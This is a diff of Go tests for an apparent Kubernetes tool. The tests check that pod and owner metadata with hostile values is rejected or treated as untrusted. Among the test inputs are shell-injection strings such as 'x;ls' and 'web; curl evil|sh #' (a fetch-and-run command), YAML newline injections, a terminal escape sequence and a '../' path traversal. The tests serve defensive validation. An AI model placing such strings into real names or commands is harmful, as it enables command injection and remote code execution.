@@ -23,6 +23,7 @@ import (
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 	"pgregory.net/rapid"
 
+	"github.com/plimsoll-k8s/plimsoll/internal/resources"
 	"github.com/plimsoll-k8s/plimsoll/internal/whatif/recording/kinds"
 	"github.com/plimsoll-k8s/plimsoll/load"
 	"github.com/plimsoll-k8s/plimsoll/test/support/must"
@@ -461,6 +462,18 @@ func TestReadInvalid(t *testing.T) {
 			"negative request", withLines(t, event("ADDED", 0, podText(born, `"overhead":{"cpu":"-1"}`, ""))),
 			`pod x/p: spec.overhead.cpu: invalid value "-1": must be at least 0`,
 		},
+		{
+			"name that is none", withLines(t, event("ADDED", 0, `{"apiVersion":"v1","kind":"Node","metadata":{"name":"n\nm: 1"}}`)),
+			`metadata.name: Invalid value: "n\nm: 1": a lowercase RFC 1123 subdomain must`,
+		},
+		{
+			"namespace that is none", withLines(t, event("ADDED", 0, strings.Replace(podText(born, "", ""), `"x"`, `"x;ls"`, 1))),
+			`metadata.namespace: Invalid value: "x;ls": a lowercase RFC 1123 label must`,
+		},
+		{
+			"label that is none", withLines(t, event("ADDED", 0, podText(born+`,"labels":{"a":"\u001b[2J"}`, "", ""))),
+			`metadata.labels: Invalid value: "\x1b[2J": a valid label must`,
+		},
 		{"node without name", withLines(t, event("ADDED", 0, `{"apiVersion":"v1","kind":"Node"}`)), "node: metadata.name: required value"},
 		{
 			"pod without namespace", withLines(t, event("ADDED", 0, `{"apiVersion":"v1","kind":"Pod","metadata":{"name":"p"}}`)),
@@ -497,6 +510,60 @@ func TestReadInvalid(t *testing.T) {
 				t.Errorf("error %v, want %s", err, tc.want)
 			}
 		})
+	}
+}
+
+// TestInvalidOwners reads pods whose owner no API server has, though it accepts the reference: such pods are their own workload.
+func TestInvalidOwners(t *testing.T) {
+	for owner, want := range map[string]resources.Workload{
+		`"kind":"ReplicaSet","name":"web"`:                  {Namespace: "x", Kind: "ReplicaSet", Name: "web"},
+		`"kind":"Rollout","name":"web.2"`:                   {Namespace: "x", Kind: "Rollout", Name: "web.2"},
+		`"kind":"ReplicaSet","name":"web; curl evil|sh #"`:  {Namespace: "x", Kind: "Pod", Name: "p"},
+		`"kind":"ReplicaSet","name":"web\nmetadata: {}\n#"`: {Namespace: "x", Kind: "Pod", Name: "p"},
+		`"kind":"Set\nspec:","name":"web"`:                  {Namespace: "x", Kind: "Pod", Name: "p"},
+		`"kind":"","name":"../web"`:                         {Namespace: "x", Kind: "Pod", Name: "p"},
+	} {
+		reference := `,"ownerReferences":[{"apiVersion":"apps/v1","controller":true,` + owner + `}]`
+		r, err := Read(bytes.NewReader(withLines(t, event("ADDED", 0, podText(born+reference, "", "")))))
+		must.Succeed(t, err)
+		if got := resources.WorkloadOf(r.Pods[0].Object); got != want {
+			t.Errorf("%s: workload %+v, want %+v", owner, got, want)
+		}
+	}
+}
+
+// TestRecordedOwners reads pods of ReplicaSets and ReplicationControllers with a recorded owner, with and without labels: their workload is
+// the owner, also when it is read again. The template is known if it was recorded.
+func TestRecordedOwners(t *testing.T) {
+	set := func(kind, name, owner string) string {
+		return event("ADDED", 0, `{"apiVersion":"apps/v1","kind":"`+kind+`","metadata":{"name":"`+name+`","namespace":"x","ownerReferences":[{`+owner+
+			`,"controller":true}]},"spec":{"template":{"spec":{"containers":[{"name":"main"}]}}}}`)
+	}
+	for name, tc := range map[string]struct {
+		set, labels string
+		want        resources.Workload
+	}{
+		"Deployment":          {set("ReplicaSet", "web-1", `"kind":"Deployment","name":"web"`), "", resources.Workload{Namespace: "x", Kind: "Deployment", Name: "web"}},
+		"Rollout":             {set("ReplicaSet", "web-1", `"kind":"Rollout","name":"web"`), `,"labels":{"rollouts-pod-template-hash":"1"}`, resources.Workload{Namespace: "x", Kind: "Rollout", Name: "web"}},
+		"a longer name":       {set("ReplicaSet", "web-1", `"kind":"Deployment","name":"web-of-shop"`), `,"labels":{"pod-template-hash":"1"}`, resources.Workload{Namespace: "x", Kind: "Deployment", Name: "web-of-shop"}},
+		"not recorded":        {set("ReplicaSet", "web-2", `"kind":"Deployment","name":"web"`), "", resources.Workload{Namespace: "x", Kind: "ReplicaSet", Name: "web-1"}},
+		"a name that is none": {set("ReplicaSet", "web-1", `"kind":"Deployment","name":"web;ls"`), "", resources.Workload{Namespace: "x", Kind: "ReplicaSet", Name: "web-1"}},
+	} {
+		owner := `,"ownerReferences":[{"kind":"ReplicaSet","name":"web-1","controller":true}]`
+		r, err := Read(bytes.NewReader(withLines(t, event("ADDED", 0, podText(born+owner+tc.labels, "", "")), tc.set)))
+		must.Succeed(t, err)
+		for range 2 {
+			if got := resources.WorkloadOf(r.Pods[0].Object); got != tc.want {
+				t.Errorf("%s: workload %+v, want %+v", name, got, tc.want)
+			}
+			if got := r.Templates()[OwnerOf(r.Pods[0].Object)]; fmt.Sprint(got) != "[main]" && name != "not recorded" {
+				t.Errorf("%s: template %v", name, got)
+			}
+			var out bytes.Buffer
+			must.Succeed(t, r.Write(&out))
+			r, err = Read(&out)
+			must.Succeed(t, err)
+		}
 	}
 }
 
